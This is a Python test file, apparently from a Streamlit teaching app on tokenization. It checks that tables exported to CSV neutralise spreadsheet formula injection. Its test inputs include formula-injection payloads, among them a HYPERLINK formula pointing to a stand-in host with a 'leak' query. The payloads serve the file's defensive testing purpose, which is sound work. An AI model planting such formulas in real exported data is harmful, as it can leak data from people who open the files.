"""Every table that can hold user text is formula-safe (issue 25, finding 8).

Streamlit's table toolbar ("Download as CSV", and a copy to the clipboard) exports exactly the values
given to ``st.dataframe``, unescaped: a token ``=HYPERLINK(…)`` would be run by the spreadsheet that
opens the file. The values the page sends are read here: no text cell may start with a character a
spreadsheet takes as the start of a formula, and the neutralised cells keep the token after a ``'``.
"""

from __future__ import annotations

import apphelpers
import pytest
from apphelpers import assert_clean

from figures.drawing.export import FORMULA_START
from i18n import t
from ui.page.settings import minilm_available

FORMULAS = ['=HYPERLINK("http://x.example/?leak","click")', "+SUM(1)", "@SUM(", "-1+2"]
TEXT = " ".join(FORMULAS)


def text_cells(at) -> list[str]:
    return [v for frame in at.dataframe for v in frame.value.to_numpy().ravel() if isinstance(v, str)]


def assert_formula_safe(at) -> list[str]:
    """No text cell of any table starts a formula; returns the neutralised ones (a ' in front)."""
    cells = text_cells(at)
    assert cells, "no table on the page"
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    quoted = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_START)]
    if quoted:
        assert t("tables.formula_note", "en") in [c.value for c in at.caption]
    return quoted


def test_the_merges_table_of_a_pasted_text_cannot_run_formulas():
    at = apphelpers.open_page("pages/tokenization.py", {"tok_source": "paste", "tok_kind": "classic",
                                                         "tok_merges": "60", "sentence": TEXT})
    at.text_area(key="tok_text").set_value((TEXT + " ") * 20).run()
    assert_clean(at)
    quoted = assert_formula_safe(at)
    # the classic merges end in whole words: each formula is in the table, behind a '
    merges = at.dataframe[1].value.to_dict("records")
    tokens = {r["new token"] for r in merges}
    for formula in FORMULAS:
        assert "'" + formula + "</w>" in tokens
    assert {q[1] for q in quoted} == {"=", "+", "@", "-"}


@pytest.mark.parametrize("page", ["pages/embeddings.py", "pages/masks.py", "pages/tokenization.py"])
def test_tables_of_the_sentence_cannot_run_formulas(page):
    at = apphelpers.open_page(page, {"sentence": TEXT})  # random weights: byte-level BPE tokens
    assert_clean(at)
    quoted = assert_formula_safe(at)
    # "=", "+" ... are tokens (or WordPiece words) of their own: shown, after a '. The Tokenization
    # page's tables of the sentence are its non-ASCII characters and the WordPiece comparison.
    assert quoted or (page == "pages/tokenization.py" and not minilm_available())
